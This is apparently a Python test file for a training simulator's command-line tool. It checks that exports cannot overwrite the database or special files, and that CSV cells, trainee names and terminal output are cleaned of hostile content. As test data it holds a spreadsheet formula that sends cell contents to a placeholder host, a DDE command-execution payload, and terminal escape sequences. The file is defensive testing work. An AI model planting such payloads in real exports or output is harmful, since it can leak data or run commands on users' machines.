"""Exports, names, CSV cells and terminal output under attack (issue 13, attacks 7 to 10)."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from storetools import chain_text, play, write_chain

from simulator.cli.commands import main
from simulator.store.csvcells import safe_cell
from simulator.store.datadir import database_path
from simulator.store.names import MAX_NAME_CHARS, InvalidName, normalise_name
from simulator.store.progress import open_store


def _finished_for(names: list[str], scenario: str = "s1") -> None:
    with open_store() as s:
        for name in names:
            play(s, name, scenario, [("a", "a:1", {"barn": 1})],
                 finish=(True, {"barn": (1, 2)}))


# --- exports ---------------------------------------------------------------------------------

@pytest.mark.parametrize("suffix", ["", "-wal", "-shm"])
def test_an_export_never_writes_over_the_database(capsys, suffix):
    _finished_for(["A", "B", "C"])
    db = database_path()
    target = str(db) + suffix
    assert main(["export-aggregate", "-o", target, "--force"]) == 2
    assert "Vägvals egna filer" in capsys.readouterr().err
    assert db.read_bytes().startswith(b"SQLite format 3\x00")
    with open_store() as s:
        assert not s.problems and len(s.trainees()) == 3


@pytest.mark.parametrize("name", ["workshops.sqlite", "workshops.sqlite-wal", "settings.ini",
                                  "errors.log", "errors.log.1", "lrs.json", "lrs-secret"])
def test_no_command_writes_over_the_data_folders_other_files(tmp_path, capsys, name):
    _finished_for(["A"])
    own = database_path().parent / name
    own.write_bytes(b"kept")
    scenario = str(write_chain(tmp_path / "lib", 2))
    for command in (["graph", scenario, "-o", str(own), "--force"],
                    ["export-aggregate", "-o", str(own), "--force"],
                    ["export-trainee", "--trainee", "A", "-o", str(own), "--force", "--lang", "en"]):
        assert main(command) == 2, command
        assert own.read_bytes() == b"kept", command
    err = capsys.readouterr().err
    assert err.count("Vägvals egna filer") == 2 and "one of Vägval's own files" in err


def test_a_hard_link_to_the_database_is_refused(tmp_path, capsys):
    _finished_for(["A", "B"])
    twin = tmp_path / "kopia.csv"
    twin.hardlink_to(database_path())
    assert main(["export-aggregate", "-o", str(twin), "--force"]) == 2
    with open_store() as s:
        assert not s.problems and len(s.trainees()) == 2


def test_an_export_through_another_name_for_the_database_is_refused(tmp_path, capsys):
    _finished_for(["A", "B", "C"])
    link = tmp_path / "looks-harmless.csv"
    link.symlink_to(database_path())
    assert main(["export-trainee", "--trainee", "A", "-o", str(link), "--force"]) == 2
    with open_store() as s:
        assert not s.problems and s.find_trainee("A") is not None


def test_an_existing_file_is_overwritten_only_with_force(tmp_path, capsys):
    _finished_for(["A", "B", "C"])
    target = tmp_path / "ut.csv"
    target.write_text("keep me", encoding="utf-8")
    assert main(["export-aggregate", "-o", str(target)]) == 2
    assert "--force" in capsys.readouterr().err
    assert target.read_text(encoding="utf-8") == "keep me"
    assert main(["export-aggregate", "-o", str(target), "--force"]) == 0
    assert target.read_text(encoding="utf-8").startswith("scenario_id,")
    graph_out = tmp_path / "graf.dot"
    graph_out.write_text("keep", encoding="utf-8")
    scenario = str(write_chain(tmp_path / "lib", 2))
    assert main(["graph", scenario, "-o", str(graph_out)]) == 2
    assert graph_out.read_text(encoding="utf-8") == "keep"
    assert main(["graph", scenario, "-o", str(graph_out), "--force"]) == 0
    assert graph_out.read_text(encoding="utf-8").startswith("digraph")


# --- CSV -------------------------------------------------------------------------------------

def test_a_tampered_database_cannot_put_a_formula_into_the_csv(tmp_path, capsys):
    _finished_for(["A", "B", "C"])
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
    with open_store() as s, s.write():
        s.db.execute("UPDATE attempts SET scenario_id = ?", [formula])
        s.db.execute("UPDATE attempt_dimensions SET dimension = '@SUM(1+1)'")
    assert main(["export-aggregate"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells and "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("Anna") == "Anna" and safe_cell(-1) == -1


def test_workshop_csv_cells_are_neutralised(monkeypatch):
    import simulator.workshop.model as workshop_model

    hostile = {column: "=cmd|' /C calc'!A0" for column in workshop_model.CSV_COLUMNS}
    monkeypatch.setattr(workshop_model, "csv_rows", lambda workshop: [hostile])
    rows = list(csv.reader(io.StringIO(workshop_model.to_csv(None))))  # type: ignore[arg-type]
    assert all(cell.startswith("'=") for cell in rows[1])


# --- names -----------------------------------------------------------------------------------

def test_composed_and_decomposed_spellings_are_one_trainee():
    nfd = unicodedata.normalize("NFD", "Åsa Öberg")
    with open_store() as s:
        first = s.trainee("Åsa Öberg")
        assert s.trainee(nfd).id == first.id
        assert s.find_trainee(nfd.lower()).id == first.id
        assert len(s.trainees()) == 1


@pytest.mark.parametrize("name", ["Anna\u200b", "An\u200dna", "\u202eanna", "Anna\x1b[2J",
                                  "Anna\x00", "Anna\udcff", "A" * (MAX_NAME_CHARS + 1), "   "])
def test_invisible_control_and_overlong_names_are_refused(name):
    with pytest.raises(InvalidName) as info:
        normalise_name(name)
    assert info.value.message("sv") != info.value.message("en")
    with open_store() as s:
        with pytest.raises(ValueError):
            s.trainee(name)
        assert s.trainees() == []


def test_a_non_utf8_name_on_the_command_line_is_refused_plainly(tmp_path, monkeypatch, capsys):
    scenario = str(write_chain(tmp_path / "lib", 2))
    monkeypatch.setattr("sys.stdin", io.StringIO("1\n1\n"))
    name = b"Kim\xff".decode("utf-8", "surrogateescape")  # what Python makes of such argv
    assert main(["play", scenario, "--trainee", name]) == 2
    out = capsys.readouterr().out
    assert "osynligt tecken eller styrtecken" in out and "Internt fel" not in out
    with open_store() as s:
        assert s.trainees() == []


# --- the terminal ----------------------------------------------------------------------------

ESC = "\x1b]0;pwned\x07\x1b[2J"


def test_validate_prints_no_control_characters(tmp_path, capsys):
    lib = tmp_path / "lib"
    path = write_chain(lib, 2)
    text = chain_text(2).replace("title: Kedjan 0", f"title: Kedjan{ESC}").replace(
        "\n## n1", f"\n## n1 | Rubrik{ESC}\n")
    path.write_text(text.replace("\nminutes: 5", "\nminutes: x" + ESC), encoding="utf-8")
    main(["validate", str(lib)])
    main(["validate", "--json", str(lib)])
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.out
    assert "minutes" in captured.out


def test_play_and_erase_print_no_control_characters(tmp_path, monkeypatch, capsys):
    lib = tmp_path / "lib"
    path = write_chain(lib, 2)
    path.write_text(chain_text(2).replace("title: Kedjan 0", f"title: Kedjan{ESC}")
                    .replace("content_note: Testinnehåll.", f"content_note: Test{ESC}\u009b2J"),
                    encoding="utf-8")
    monkeypatch.setattr("sys.stdin", io.StringIO("1\n1\n"))
    main(["play", str(path)])
    with open_store() as s, s.write():  # a name planted in the file directly
        s.db.execute("INSERT INTO trainees (pseudonym, created) VALUES (?, '2026-01-01')",
                     [f"Evil{ESC}"])
    main(["erase-trainee", "--trainee", f"Evil{ESC}", "--yes"])
    captured = capsys.readouterr()
    text = captured.out + captured.err
    assert "Kedjan" in text and "Evil" in text
    assert "\x1b" not in text and "\x07" not in text and "\u009b" not in text


@pytest.mark.parametrize("command", [["progress", "--trainee", "Anna"], ["lrs-status"],
                                     ["export-aggregate", "-o", "out.csv"]])
def test_an_empty_data_dir_is_refused_not_taken_as_the_default(tmp_path, capsys, monkeypatch,
                                                              command):
    """`--data-dir ""` (a script's empty variable) quietly used the default data folder: the
    user's own results were read, and written by play and erase."""
    default = tmp_path / "the-users-own-folder"
    monkeypatch.setenv("VAGVAL_DATA_DIR", str(default))
    monkeypatch.chdir(tmp_path)
    assert main([*command, "--data-dir", ""]) == 2
    err = capsys.readouterr().err
    assert "--data-dir är tomt" in err and "--data-dir is empty" in err
    assert not default.exists()  # nothing was opened or made there


def test_an_export_never_replaces_a_folder_device_or_pipe_even_with_force(tmp_path, capsys):
    """With --force an export was renamed over whatever the name held: a folder failed with
    the operating system's English 'Is a directory', and as the administrator a device node
    (/dev/null itself, for a typing slip) was replaced by the export."""
    import os
    import stat

    with open_store(tmp_path / "vagval.db") as s:
        play(s, "Anna", "s1", [("a", "a:1", {})])
    folder = tmp_path / "a-folder"
    folder.mkdir()
    targets = [folder]
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe")
        targets.append(tmp_path / "pipe")
    if os.geteuid() == 0:  # only the administrator can make a device node (CI runs as root)
        os.mknod(tmp_path / "null", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        targets.append(tmp_path / "null")
    for target in targets:
        kind = stat.S_IFMT(target.lstat().st_mode)
        code = main(["export-trainee", "--trainee", "Anna", "-o", str(target), "--force",
                     "--data-dir", str(tmp_path)])
        err = capsys.readouterr().err
        assert code == 2 and "är ingen vanlig fil" in err, (target, err)
        assert stat.S_IFMT(target.lstat().st_mode) == kind  # still what it was


def test_a_failed_export_is_explained_in_swedish_and_english(tmp_path, capsys):
    with open_store(tmp_path / "vagval.db") as s:
        play(s, "Anna", "s1", [("a", "a:1", {})])
    missing = tmp_path / "no-such-folder" / "out.json"
    for lang, said in (("sv", "kunde inte sparas: mappen finns inte"),
                       ("en", "could not be saved: the folder does not exist")):
        code = main(["export-trainee", "--trainee", "Anna", "-o", str(missing), "--lang", lang,
                     "--data-dir", str(tmp_path)])
        err = capsys.readouterr().err
        assert code == 2 and said in err and "No such file" not in err
